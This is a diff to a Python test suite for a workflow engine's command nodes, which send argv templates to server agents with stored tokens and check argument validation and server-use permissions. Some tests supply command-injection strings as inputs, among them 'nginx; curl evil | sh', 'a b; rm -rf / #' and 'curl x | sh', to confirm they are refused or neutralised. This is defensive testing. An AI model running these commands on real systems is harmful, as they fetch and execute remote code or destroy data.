@@ -1,4 +1,8 @@
-"""Command nodes: sent to a registered server's agent with its token; missing servers and templates."""
+"""Command nodes: a server's registered template, sent as an argv with the server's token from the store.
+
+Flows are saved by `test`, who holds use_server on the servers these tests register, unless a test
+takes the right away.
+"""
 
 from __future__ import annotations
 
@@ -6,22 +10,38 @@ from datetime import timedelta
 from typing import Any
 
 import psycopg
+import pytest
 
 from backend.actions import ActionSettings, servers
+from backend.actions.command_rights import CommandRefused
+from backend.actions.secret_store import SecretStore
 from tests.actions.servers import RecordingServer, Reply
 from tests.actions.support import drain, effects, journal_data
 from tests.support import Queue, flow
 
+UNIT = {"unit": {"type": "string", "pattern": "^[a-z][a-z0-9.-]*$"}}
+
 
 def admin(
-    queue: Queue, *, server: tuple[str, str] | None = None, template: tuple[str, str] | None = None
+    queue: Queue,
+    *,
+    server: tuple[str, str] | None = None,
+    template: tuple[str, str, list[str], dict[str, Any]] | None = None,
+    use: str | None = None,
 ) -> None:
     async def go() -> None:
         async with await psycopg.AsyncConnection.connect(queue.url, autocommit=True) as conn:
+            await conn.execute("INSERT INTO users (name) VALUES ('test') ON CONFLICT DO NOTHING")
             if server is not None:
-                await servers.save_server(conn, server[0], server[1], "agent-token-1", by="test")
+                store = SecretStore.from_settings()
+                await servers.save_server(conn, store, server[0], server[1], "agent-token-1", by="test")
+                await conn.execute("INSERT INTO server_grants VALUES ('test', %s)", (server[0],))
             if template is not None:
-                await servers.save_template(conn, template[0], template[1], by="test")
+                await servers.save_template(conn, *template, by="test")
+            if use is not None:
+                await conn.execute(
+                    "INSERT INTO server_grants VALUES ('test', %s) ON CONFLICT DO NOTHING", (use,)
+                )
 
     queue.run(go)
 
@@ -42,13 +62,14 @@ def logged(queue: Queue, run_id: int) -> list[str]:
     return [data["message"] for data in journal_data(queue, run_id, "log_written")]
 
 
-def test_a_template_and_its_args_go_to_the_agent_with_the_token_and_the_key(
+def test_a_template_goes_to_the_agent_as_an_argv_with_the_token_and_the_key(
     queue: Queue, receiver: RecordingServer
 ) -> None:
     receiver.routes["/run"] = lambda _r: Reply(200, b'{"exit_code": 0, "stdout": "restarted"}')
-    admin(queue, server=("web-1", f"{receiver.url}/run"), template=("restart", "systemctl restart {service}"))
-    document = command_flow(server="web-1", template="restart", args={"service": "{{trigger.service}}"})
-    run_id = queue.start(queue.save(document), input={"service": "nginx"})
+    restart = ("web-1", "restart", ["systemctl", "restart", "{unit}"], UNIT)
+    admin(queue, server=("web-1", f"{receiver.url}/run"), template=restart)
+    document = command_flow(server="web-1", template="restart", args={"unit": "{{trigger.unit}}"})
+    run_id = queue.start(queue.save(document), input={"unit": "nginx"})
 
     drain(queue, settings=ActionSettings())  # an admin's agent URL is not held to the destination guard
 
@@ -58,20 +79,54 @@ def test_a_template_and_its_args_go_to_the_agent_with_the_token_and_the_key(
     assert received.headers["authorization"] == "Bearer agent-token-1"
     assert received.headers["idempotency-key"] == row["key"]
     sent = received.json()
-    assert (sent["command"], sent["template"], sent["args"]) == (
-        "systemctl restart {service}",
-        "restart",
-        {"service": "nginx"},
-    )
-    assert (sent["key"], sent["run"], sent["node"]) == (row["key"], run_id, "cmd")
+    assert sent == {
+        "key": row["key"],
+        "run": run_id,
+        "node": "cmd",
+        "visit": sent["visit"],
+        "server": "web-1",
+        "template": "restart",
+        "argv": ["systemctl", "restart", "nginx"],
+    }
     assert logged(queue, run_id) == ["exit 0 restarted"]
     assert "agent-token-1" not in str(row), "the token is not in the effects log"
+    assert queue.one("SELECT count(*) FROM secrets WHERE name = 'server:web-1' AND sealed IS NOT NULL") == (
+        1,
+    )
+
+
+def test_an_argument_that_breaks_its_type_is_refused_before_anything_is_sent(
+    queue: Queue, receiver: RecordingServer
+) -> None:
+    admin(
+        queue,
+        server=("web-4", receiver.url),
+        template=("web-4", "restart", ["systemctl", "restart", "{unit}"], UNIT),
+    )
+    document = command_flow(True, server="web-4", template="restart", args={"unit": "{{trigger.unit}}"})
+    run_id = queue.start(queue.save(document), input={"unit": "nginx; curl evil | sh"})
+    drain(queue, settings=ActionSettings())
+    assert logged(queue, run_id) == ["command_args_invalid"]
+    assert receiver.received == []
+    [row] = effects(queue, run_id)
+    assert "curl" not in str(row["output"]), "the refused value is not echoed"
+
+
+def test_a_value_with_spaces_and_semicolons_stays_one_argument(
+    queue: Queue, receiver: RecordingServer
+) -> None:
+    echo = ("web-5", "say", ["echo", "--", "{text}"], {"text": {"type": "string", "maxLength": 100}})
+    admin(queue, server=("web-5", receiver.url), template=echo)
+    document = command_flow(server="web-5", template="say", args={"text": "{{trigger.text}}"})
+    queue.start(queue.save(document), input={"text": "a b; rm -rf / #"})
+    drain(queue, settings=ActionSettings())
+    assert receiver.received[0].json()["argv"] == ["echo", "--", "a b; rm -rf / #"]
 
 
 def test_a_non_zero_exit_code_is_an_error(queue: Queue, receiver: RecordingServer) -> None:
     receiver.routes["/run"] = lambda _r: Reply(200, b'{"exit_code": 3, "stderr": "no such unit"}')
-    admin(queue, server=("web-2", f"{receiver.url}/run"))
-    run_id = queue.start(queue.save(command_flow(True, server="web-2", command="false")))
+    admin(queue, server=("web-2", f"{receiver.url}/run"), template=("web-2", "false", ["false"], {}))
+    run_id = queue.start(queue.save(command_flow(True, server="web-2", template="false")))
     drain(queue)
     assert queue.status(run_id) == ("succeeded", None)
     assert logged(queue, run_id) == ["command_exit_nonzero"]
@@ -79,8 +134,12 @@ def test_a_non_zero_exit_code_is_an_error(queue: Queue, receiver: RecordingServe
     assert row["output"]["exit_code"] == 3 and row["output"]["body"]["stderr"] == "no such unit"
 
 
-def test_a_server_that_no_longer_exists_fails_the_run_with_its_code_after_the_retries(queue: Queue) -> None:
-    run_id = queue.start(queue.save(command_flow(server="gone", command="uptime")))
+def test_a_server_removed_after_the_save_fails_the_run_with_its_code_after_the_retries(
+    queue: Queue, receiver: RecordingServer
+) -> None:
+    admin(queue, server=("gone", receiver.url), template=("gone", "uptime", ["uptime"], {}))
+    run_id = queue.start(queue.save(command_flow(server="gone", template="uptime")))
+    queue.run(_remove_server("gone", queue.url))
     for minutes in (1, 2, 4, 8):
         drain(queue)
         assert queue.status(run_id) == ("waiting", None)
@@ -89,19 +148,75 @@ def test_a_server_that_no_longer_exists_fails_the_run_with_its_code_after_the_re
 
     assert queue.status(run_id) == ("failed", "resume_attempts_exhausted")
     failures = journal_data(queue, run_id, "resume_failed")
-    assert [(f["attempt"], f["error"], f["server"]) for f in failures] == [
-        (n, "action_server_missing", "gone") for n in range(1, 6)
+    assert [(f["attempt"], f["error"]) for f in failures] == [
+        (n, "action_template_missing") for n in range(1, 6)
     ]
-    [row] = effects(queue, run_id)
-    assert (row["attempts"], row["output"]["code"]) == (5, "action_server_missing")
+    assert receiver.received == []
+
+
+def _remove_server(name: str, url: str) -> Any:
+    async def go() -> None:
+        async with await psycopg.AsyncConnection.connect(url, autocommit=True) as conn:
+            assert await servers.remove_server(conn, name)
+            assert await (
+                await conn.execute("SELECT count(*) FROM secrets WHERE name = %s", ("server:" + name,))
+            ).fetchone() == (0,)
+
+    return go
 
 
 def test_a_deleted_template_is_its_own_error_and_takes_the_error_port(
     queue: Queue, receiver: RecordingServer
 ) -> None:
-    admin(queue, server=("web-3", receiver.url))
+    admin(queue, server=("web-3", receiver.url), template=("web-3", "deleted", ["true"], {}))
     run_id = queue.start(queue.save(command_flow(True, server="web-3", template="deleted")))
+
+    async def forget() -> None:
+        async with await psycopg.AsyncConnection.connect(queue.url, autocommit=True) as conn:
+            assert await servers.remove_template(conn, "web-3", "deleted")
+
+    queue.run(forget)
     drain(queue)
     assert queue.status(run_id) == ("succeeded", None)
     assert logged(queue, run_id) == ["action_template_missing"]
+    assert receiver.received == []
+
+
+def test_use_server_is_checked_when_the_flow_is_saved_and_again_when_the_action_is_sent(
+    queue: Queue, receiver: RecordingServer
+) -> None:
+    admin(queue, server=("web-6", receiver.url), template=("web-6", "uptime", ["uptime"], {}))
+    admin(queue, server=("web-7", receiver.url), template=("web-7", "uptime", ["uptime"], {}))
+    queue.one("DELETE FROM server_grants WHERE server = 'web-7' RETURNING server")
+    with pytest.raises(CommandRefused) as refused:
+        queue.save(command_flow(server="web-7", template="uptime"))
+    assert (refused.value.status, refused.value.code) == (403, "server_use_refused")
+    with pytest.raises(CommandRefused) as refused:
+        queue.save(command_flow(server="web-6", template="not-registered"))
+    assert (refused.value.status, refused.value.code) == (422, "command_template_unknown")
+    with pytest.raises(CommandRefused) as refused:
+        queue.save(command_flow(server="web-6", template="uptime", args={"extra": "1"}))
+    assert refused.value.code == "command_args_invalid"
+
+    run_id = queue.start(queue.save(command_flow(True, server="web-6", template="uptime")))
+    # The author loses the right between the save and the send: nothing goes out.
+    queue.one("DELETE FROM server_grants WHERE server = 'web-6' RETURNING server")
+    drain(queue)
+    assert logged(queue, run_id) == ["server_use_refused"]
+    assert receiver.received == []
+
+
+def test_a_stored_free_command_line_is_refused_when_sent(queue: Queue, receiver: RecordingServer) -> None:
+    """A version saved before templates were required still names `command`: it never reaches an agent."""
+    admin(queue, server=("web-8", receiver.url), template=("web-8", "uptime", ["uptime"], {}))
+    flow_id = queue.save(command_flow(True, server="web-8", template="uptime"))
+    queue.one(
+        "UPDATE flow_versions"
+        " SET document = jsonb_set(document, '{nodes,1,config,command}', '\"curl x | sh\"')"
+        " WHERE flow_id = %s RETURNING version",
+        flow_id,
+    )
+    run_id = queue.start(flow_id)
+    drain(queue)
+    assert logged(queue, run_id) == ["command_line_refused"]
     assert receiver.received == []
